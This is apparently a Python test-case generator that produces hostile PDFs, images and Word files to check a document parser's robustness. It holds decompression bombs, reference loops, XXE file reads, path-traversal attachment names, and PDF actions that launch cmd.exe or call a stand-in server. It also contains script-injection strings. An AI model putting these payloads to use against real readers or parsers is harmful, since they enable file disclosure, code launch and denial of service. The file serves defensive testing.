"""Attacks by PDF: loops in every tree, filters on filters, actions, sizes that no page has; and by images."""

from __future__ import annotations

import binascii
import struct
import zlib
from typing import TYPE_CHECKING

from hostile.case import BURIED, Case
from hostile.office import docx, relations
from hostile.pages import FONT, assembled, pdf, show, stream

if TYPE_CHECKING:
    from collections.abc import Iterator

    from hostile.case import World


def documents(world: World) -> Iterator[Case]:
    """All attacks of this module."""
    groups = {
        "loops": _loops(),
        "bomb": _bombs(),
        "nesting": _nesting(),
        "numbers": _numbers(),
        "active": _active(world),
        "damage": _damage(world),
    }
    for kind, files in groups.items():
        for name, body in files.items():
            yield Case(f"pdf/{kind}-{name}.pdf", kind, body, hidden=(BURIED,))
    yield from _images()


def _loops() -> dict[str, bytes]:
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X1 6 0 R >> >>"
    glyph = b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 65 /LastChar 66 "
    proc = (
        b"/Widths [9 9] /Encoding << /Differences [65 /A] >> /CharProcs << /A 6 0 R >> "
        b"/Resources << /Font << /F1 5 0 R >> >> >>"
    )
    popup = b"<< /Subtype /Popup /Parent 8 0 R /Popup 8 0 R /Rect [0 0 1 1] >>"
    entry = b"<< /T (a) /Kids [8 0 R] /Parent 8 0 R >>"
    mapped = FONT[:-2] + b"/ToUnicode 8 0 R >>"
    outline = b"<< /Title (Again) /Parent 8 0 R /Next 9 0 R /Prev 9 0 R /First 9 0 R /Last 9 0 R /Dest [3 0 R /Fit] >>"
    return {
        "kids-self": pdf(objects={2: b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"}),
        "kids-parent": pdf(objects={3: b"<< /Type /Pages /Kids [2 0 R] /Parent 2 0 R /Count 1 >>"}),
        "kids-same": pdf(objects={2: b"<< /Type /Pages /Kids [" + b"3 0 R " * 3_000 + b"] /Count 3000 >>"}),
        "parent-self": pdf(page=b"/Parent 3 0 R"),
        "contents-self": pdf(page=b"/Contents [3 0 R 4 0 R 4 0 R]"),
        "contents-many": pdf(page=b"/Contents [" + b"4 0 R " * 5_000 + b"]"),
        "length-self": pdf(objects={4: stream(show("Words."), length=b"4 0 R")}),
        "length-loop": pdf(objects={4: stream(show("Words."), length=b"8 0 R"), 8: b"8 0 R"}),
        "reference": pdf(objects={4: b"8 0 R", 8: b"9 0 R", 9: b"8 0 R"}),
        "form": pdf(b"/X1 Do " + show("Words."), objects={6: stream(b"/X1 Do /X1 Do", form)}),
        "type3": pdf(show("AAAA"), objects={5: glyph + proc, 6: stream(b"BT /F1 9 Tf (A) Tj ET")}),
        "previous-self": pdf(trailer=b"/Prev 15"),
        "root-self": pdf(trailer=b"/Root 8 0 R", objects={8: b"<< /Type /Catalog /Pages 8 0 R >>"}),
        "outline": pdf(catalog=b"/Outlines 8 0 R", objects={8: b"<< /First 9 0 R /Last 9 0 R /Count 9 >>", 9: outline}),
        "names": pdf(catalog=b"/Names << /Dests 8 0 R >>", objects={8: b"<< /Kids [8 0 R] >>"}),
        "tags": pdf(
            catalog=b"/MarkInfo << /Marked true >> /StructTreeRoot 8 0 R",
            objects={8: b"<< /Type /StructTreeRoot /K 9 0 R >>", 9: b"<< /S /P /P 9 0 R /K [9 0 R 8 0 R] >>"},
        ),
        "annotations": pdf(page=b"/Annots [8 0 R]", objects={8: popup}),
        "fields": pdf(catalog=b"/AcroForm << /Fields [8 0 R] >>", objects={8: entry}),
        "object-stream": _object_stream(),
        "map": pdf(objects={5: mapped, 8: stream(b"/A usecmap /A usecmap", b"/UseCMap 8 0 R")}),
    }


def _object_stream() -> bytes:
    inside = b"4 0 << /Length 5 >>"
    return pdf(
        objects={8: stream(inside, b"/Type /ObjStm /N 99999999 /First 4 /Extends 8 0 R")}, trailer=b"/XRefStm 15"
    )


def _flated(body: bytes, times: int = 1) -> bytes:
    for _ in range(times):
        body = zlib.compress(body, 9)
    return body


def _bombs() -> dict[str, bytes]:
    zeros = bytes(50_000_000)
    predictor = b"/DecodeParms << /Predictor 15 /Columns 2147483647 >>"
    maps = b"1 beginbfrange <00> <ff> <" + b"0041" * 500 + b"> endbfrange"
    pages = dict.fromkeys(range(10, 6000), b"<< /Type /Page /Parent 2 0 R >>")
    kids = b" ".join(b"%d 0 R" % number for number in pages)
    return {
        "flate": pdf(objects={4: stream(_flated(zeros), b"/Filter /FlateDecode")}),
        "flate-twice": pdf(objects={4: stream(_flated(zeros, 2), b"/Filter [/FlateDecode /FlateDecode]")}),
        "filters": pdf(objects={4: stream(b"00>", b"/Filter [" + b"/ASCIIHexDecode " * 5_000 + b"]")}),
        "lzw": pdf(objects={4: stream(b"\x80\x0b\x60\x50" * 20_000, b"/Filter /LZWDecode")}),
        "run-length": pdf(objects={4: stream(b"\x81 " * 200_000, b"/Filter /RunLengthDecode")}),
        "predictor": pdf(objects={4: stream(_flated(b"x" * 1_000), b"/Filter /FlateDecode " + predictor)}),
        "unicode-map": pdf(show("A" * 20_000), objects={5: FONT[:-2] + b"/ToUnicode 8 0 R >>", 8: stream(maps)}),
        "letters": pdf(
            _flated(show("A" * 2_000_000)), objects={4: stream(_flated(show("A" * 2_000_000)), b"/Filter /FlateDecode")}
        ),
        "lines": pdf(b"".join(show("Words of a line.", at=(72, n % 700)) for n in range(20_000))),
        "positions": pdf(b"BT /F1 9 Tf " + b"1 0 Td (a) Tj " * 50_000 + b"ET"),
        "states": pdf(b"q " * 200_000 + show("Words.")),
        "paths": pdf(b"0 0 m 9 9 l S " * 50_000 + show("Words.")),
        "pages": pdf(objects={**pages, 2: b"<< /Type /Pages /Kids [" + kids + b"] /Count 5990 >>"}),
    }


def _nesting() -> dict[str, bytes]:
    return {
        "arrays": pdf(objects={8: b"[" * 100_000 + b"]" * 100_000}, catalog=b"/X 8 0 R"),
        "dictionaries": pdf(objects={8: b"<< /A " * 50_000 + b"1" + b" >>" * 50_000}, catalog=b"/X 8 0 R"),
        "open-array": pdf(objects={8: b"[" * 100_000}, page=b"/Annots 8 0 R"),
        "string": pdf(b"BT (" + b"(" * 50_000 + b") Tj ET " + show("Words.")),
        "comments": pdf(b"%" * 100_000 + b"\n" + show("Words.")),
        "operands": pdf(b"1 " * 200_000 + show("Words.")),
        "arrays-in-content": pdf(b"[" * 50_000 + show("Words.")),
        "marked": pdf(b"/P BMC " * 20_000 + show("Words.")),
        "inline-image": pdf(b"BI /W 99999 /H 99999 /BPC 8 /CS /RGB ID " + b"x" * 1_000 + show("Words.")),
    }


def _numbers() -> dict[str, bytes]:
    kids = b"<< /Type /Pages /Kids [3 0 R] /Count %d >>"
    boxes = {
        "box-huge": b"[0 0 1e9 1e9]",
        "box-negative": b"[0 0 -600 -800]",
        "box-zero": b"[0 0 0 0]",
        "box-short": b"[0 0]",
        "box-names": b"[/a /b (c) null]",
        "box-overflow": b"[-99999999999999999999 0 99999999999999999999 1]",
    }
    image = b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB"
    return {
        **{name: pdf(box=box) for name, box in boxes.items()},
        "count-huge": pdf(objects={2: kids % 2147483647}),
        "count-negative": pdf(objects={2: kids % -1}),
        "size-huge": pdf(trailer=b"/Size 2147483647"),
        "rotate": pdf(page=b"/Rotate 45"),
        "unit": pdf(page=b"/UserUnit 1e30"),
        "font-huge": pdf(show("Words.", size=1e9)),
        "font-negative": pdf(show("Words.", size=-12)),
        "matrix": pdf(b"q 0 0 0 0 0 0 cm " + show("Words.") + b"Q"),
        "matrix-huge": pdf(b"q 1e38 1e38 1e38 1e38 1e38 1e38 cm " + show("Words.") + b"Q"),
        "image-huge": pdf(b"/X1 Do " + show("Words."), objects={6: stream(b"\0" * 100, image)}),
        "image-jbig2": pdf(b"/X1 Do", objects={6: stream(b"\xff" * 100, image + b" /Filter /JBIG2Decode")}),
        "image-jpx": pdf(b"/X1 Do", objects={6: stream(b"\0\0\0\x0cjP  " * 10, image + b" /Filter /JPXDecode")}),
        "image-dct": pdf(b"/X1 Do", objects={6: stream(b"\xff\xd8\xff\xc0" * 10, image + b" /Filter /DCTDecode")}),
        "image-fax": pdf(b"/X1 Do", objects={6: stream(b"\0" * 100, image + b" /Filter /CCITTFaxDecode")}),
        "widths": pdf(objects={5: FONT[:-2] + b"/FirstChar -5 /LastChar 2147483647 /Widths [1e30] >>"}),
    }


def _active(world: World) -> dict[str, bytes]:
    far, near = world.server.encode(), world.outside.encode()
    actions = {
        "script": b"<< /S /JavaScript /JS (app.launchURL('" + far + b"/js')) >>",
        "launch": b"<< /S /Launch /F (/bin/touch) /Win << /F (cmd.exe) /P (/c calc) >> >>",
        "uri": b"<< /S /URI /URI (" + far + b"/uri) >>",
        "submit": b"<< /S /SubmitForm /F << /FS /URL /F (" + far + b"/submit) >> >>",
        "import": b"<< /S /ImportData /F (" + near + b") >>",
        "remote": b"<< /S /GoToR /F (" + near + b") /D [0 /Fit] >>",
        "chain": b"<< /S /JavaScript /JS (1) /Next 8 0 R >>",
    }
    found = {name: pdf(catalog=b"/OpenAction 8 0 R", objects={8: action}) for name, action in actions.items()}
    told = b"<< /Title (\x1b[31m<script>alert\\(1\\)</script>) /CreationDate (D:99999999) >>"
    external = b"/F << /FS /URL /F (" + far + b"/content) >>"
    return {
        **found,
        "external-stream": pdf(objects={4: stream(b"", external)}),
        "external-file": pdf(objects={4: stream(b"", b"/F (" + near + b")")}),
        "attachment": pdf(
            catalog=b"/Names << /EmbeddedFiles << /Names [(../../canary-written.txt) 8 0 R] >> >>",
            objects={8: b"<< /F (../../canary-written.txt) /EF << /F 9 0 R >> >>", 9: stream(b"canary")},
        ),
        "xfa": pdf(catalog=b"/AcroForm << /XFA 8 0 R >>", objects={8: stream(_xfa(world))}),
        "metadata": pdf(catalog=b"/Metadata 8 0 R", objects={8: stream(_xfa(world), b"/Type /Metadata /Subtype /XML")}),
        "title": pdf(
            trailer=b"/Info 8 0 R",
            objects={8: told},
        ),
    }


def _xfa(world: World) -> bytes:
    return f'<!DOCTYPE x [<!ENTITY e SYSTEM "{world.file_url}">]><x>&e;</x>'.encode()


def _damage(world: World) -> dict[str, bytes]:
    whole = pdf()
    shift = bytearray(whole)
    shift[whole.find(b"xref") + 20 : whole.find(b"xref") + 30] = b"9999999999"
    encrypt = b"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <" + b"41" * 32 + b"> /U <" + b"42" * 32 + b"> >>"
    identity = b"/Encrypt 8 0 R /ID [<41> <41>]"
    found = {
        "encrypted": pdf(trailer=identity, objects={8: encrypt}),
        "encrypted-bogus": pdf(trailer=identity, objects={8: b"<< /Filter /Bogus /V 99 >>"}),
        "encrypted-loop": pdf(trailer=b"/Encrypt 8 0 R", objects={8: b"8 0 R"}),
        "table": bytes(shift),
        "no-table": whole[: whole.find(b"xref")],
        "no-end": whole.replace(b"%%EOF", b""),
        "no-root": whole.replace(b"/Root 1 0 R", b""),
        "start-self": whole[: whole.rfind(b"startxref")] + b"startxref\n0\n%%EOF\n",
        "start-far": whole[: whole.rfind(b"startxref")] + b"startxref\n99999999999999999999\n%%EOF\n",
        "header-late": world.random.randbytes(900) + whole,
        "header-only": b"%PDF-1.7\n",
        "twice": whole + whole,
        "updates": whole + whole[whole.find(b"xref") :] * 300,
        "garbage": b"%PDF-1.7\n" + world.random.randbytes(20_000),
        "returns": whole.replace(b"\n", b"\r"),
        "nulls": whole.replace(b" ", b"\0"),
        "no-page": pdf(objects={3: b"null"}),
        "no-font": pdf(objects={5: b"null"}),
        "wrong-types": assembled({1: b"<< /Type /Catalog /Pages (a) >>", 2: b"[1 2 3]", 3: b"true"}),
    }
    for share in (10, 50, 90, 99):
        found[f"cut-{share}"] = whole[: len(whole) * share // 100]
    return found


def _png(width: int, height: int, body: bytes = b"") -> bytes:
    chunks = (
        (b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)),
        (b"IDAT", zlib.compress(body)),
        (b"IEND", b""),
    )
    packed = [struct.pack(">I", len(b)) + n + b + struct.pack(">I", binascii.crc32(n + b)) for n, b in chunks]
    return b"\x89PNG\r\n\x1a\n" + b"".join(packed)


def _images() -> Iterator[Case]:
    bodies = {
        "png-huge": _png(60_000, 60_000),
        "png-beyond": _png(2**31 - 1, 2**31 - 1),
        "png-zero": _png(0, 0),
        "png-bomb": _png(20_000, 20_000, bytes(20_000_000)),
        "gif": b"GIF89a\xff\xff\xff\xff\x80\0\0" + bytes(6) + b"\x2c" + bytes(20),
        "jpeg": b"\xff\xd8\xff\xc0\0\x11\x08\xff\xff\xff\xff\x03" + bytes(30),
        "bmp": b"BM" + struct.pack("<IHHIIiiHHI", 99, 0, 0, 54, 40, 2**30, -(2**30), 1, 24, 0) + bytes(30),
        "tiff-loop": b"II*\0\x08\0\0\0\0\0\x08\0\0\0",
        "svg": b'<svg xmlns="http://www.w3.org/2000/svg" width="1e9"><script>alert(1)</script><use href="#a"/></svg>',
        "emf": b"\x01\0\0\0\x6c\0\0\0" + b"\xff" * 200,
        "text": b"no image at all",
    }
    for name, body in bodies.items():
        suffix = name.partition("-")[0]
        yield Case(f"images/{name}.{suffix}", "image", body)
        links = relations(("image", f"media/a.{suffix}", False))
        drawing = (
            '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
            'r:embed="rId1"/></w:drawing></w:r><w:r><w:t>Words beside an image.</w:t></w:r></w:p>'
        )
        yield Case(
            f"docx/image-{name}.docx", "image", docx(drawing, links=links, extra={f"word/media/a.{suffix}": body})
        )
